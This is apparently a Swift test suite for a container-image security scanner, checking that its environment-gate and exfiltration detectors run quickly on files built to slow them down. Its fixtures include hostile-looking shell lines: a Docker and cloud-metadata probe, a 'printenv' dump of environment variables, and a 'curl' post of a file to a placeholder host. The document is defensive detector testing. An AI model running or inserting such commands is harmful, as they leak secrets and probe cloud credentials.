import Findings
import Foundation
import Testing

@testable import Payloads

/// Detectors that pair two lines stay linear on files built to make them quadratic.
@Suite struct PairingBoundsTests {
    static func unit(_ lines: [String]) -> ContentUnit {
        ContentUnit(origin: .file(path: "opt/x.sh", layer: LayerReference(index: 0, digest: "sha256:0"),
                                  removedLater: false, replacedLater: false),
                    lines: lines.enumerated().map { ContentLine(number: $0.offset + 1, text: $0.element) })
    }

    @Test func aFileOfProbesWithoutActionsIsReadQuickly() {
        let unit = Self.unit(Array(repeating: "if [ -f /.dockerenv ]; then echo 169.254.169.254; fi",
                                   count: ContentLineExtraction.maxLines))
        let start = Date()
        #expect(EnvironmentGateDetector.findings(unit).isEmpty)
        #expect(Date().timeIntervalSince(start) < 5)
    }

    @Test func aFileOfGathersAndSendsFarApartIsReadQuickly() {
        let lines = (0..<ContentLineExtraction.maxLines).map { $0 < 228 ? "printenv > /tmp/e" : "curl -d @x http://h" }
        let start = Date()
        #expect(ExfiltrationDetector.findings(Self.unit(lines)).count == 1)  // lines 208–228 and 229–249 are near
        #expect(Date().timeIntervalSince(start) < 5)
    }
}
